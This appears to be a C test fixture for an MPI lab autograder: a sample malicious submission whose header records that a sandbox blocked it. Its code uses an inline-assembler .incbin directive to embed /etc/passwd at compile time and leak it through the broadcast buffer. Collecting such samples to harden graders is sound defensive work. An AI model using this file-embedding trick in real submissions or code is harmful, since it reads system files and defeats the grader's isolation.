/* Tries: to include a file in the program at compile time, by assembler
 * Stopped by: the jail: only C that compiles to WebAssembly is built; the sandbox contains no secrets
 * Status: ungradable
 * Points: 0
 * Reason: it could not be built in isolation
 */
#include "mpilab.h"

__asm__(".section .rodata\n stolen: .incbin \"/etc/passwd\"\n .byte 0\n .text");
extern const char stolen[] __attribute__((visibility("hidden")));

int bcast_linear(void *buffer, int count, MPI_Datatype datatype, int root, MPI_Comm comm)
{
    (void)count, (void)datatype, (void)root, (void)comm;
    return *(char *)buffer = stolen[0];
}
